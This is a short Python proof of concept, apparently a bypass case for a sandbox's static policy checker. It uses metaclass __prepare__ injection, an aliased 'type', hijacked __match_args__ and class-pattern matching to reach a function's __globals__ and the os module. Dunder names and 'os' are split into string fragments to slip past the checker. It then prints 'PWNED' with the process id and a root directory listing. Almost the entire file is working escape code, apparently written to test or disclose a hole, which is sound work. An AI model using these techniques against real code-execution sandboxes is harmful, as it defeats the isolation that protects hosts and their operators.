# NOTE: class-pattern name resolved by LOAD_NAME in a class body whose namespace comes from a __prepare__ of a metaclass made by real type (type-as-value scope gap); walker vouches for K as a plain class defined in a dead function
import operator
def _dead():
    class K:
        pass
    return K
def _f():
    type = 1
mk = type
ic = "__instance" + "check__"
ma = "__match" + "_args__"
cur = [("__in" + "it__",)]
M = mk(*["M", (mk,), {ic: lambda c, o: True, ma: property(lambda c: cur[0])}])
Evil = M(*["Evil", (), {}])
pp = "__pre" + "pare__"
Meta = mk(*["Meta", (mk,), {pp: classmethod(lambda m, n, b, **k: {"K": Evil})}])
target = type(operator.attrgetter("real"))
class Holder(metaclass=Meta):
    match target:
        case K(fn):
            cur[0] = ("__glo" + "bals__",)
            match fn:
                case K(g):
                    o = g["o" + "s"]
                    print("PW" + "NED: launcher policy globals reached via class pattern; os.getpid() =", o.getpid(), "listdir:", o.listdir("/")[:6])
                case _:
                    print("no match 2")
        case _:
            print("no match")
